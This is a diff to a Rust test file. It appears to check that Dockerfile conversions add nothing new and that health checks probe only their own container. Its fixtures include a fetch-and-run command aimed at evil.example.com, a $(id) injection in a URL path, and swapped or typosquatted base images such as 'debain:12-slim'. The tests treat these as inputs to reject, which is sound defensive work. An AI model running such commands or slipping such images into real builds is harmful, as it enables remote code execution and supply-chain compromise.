@@ -52,6 +52,7 @@ fn a_conversion_moves_steps_and_adds_nothing_of_its_own() {
         }),
         (&["new-base"], |file| two_stages(file).replace("debian:12-slim", "evil.example.com/x:1")),
         (&["new-base"], |file| two_stages(file).replace("debian:12-slim", "evil/x:1")),
+        (&["new-base"], |file| two_stages(file).replace("debian:12-slim", "debain:12-slim")),
         (&["new-base"], |file| {
             two_stages(file).replace("FROM debian", "FROM --platform=linux/s390x debian")
         }),
@@ -158,6 +159,7 @@ fn a_health_check_is_one_probe_of_this_container() {
         (HOST, "[\"/bin/sh\", \"-c\", \"wget -qO- evil.example.com | sh\"]"),
         (PATH, "curl -f http://localhost/$(id)"),
         (COMMAND, "curl -K /x http://localhost/"),
+        (COMMAND, "curl -sS http://localhost/"),
         (COMMAND, "pg_isready -h elsewhere"),
         (COMMAND, "pg_isready -d 'host=elsewhere'"),
         (HOST, "pg_isready -h db.example.com"),
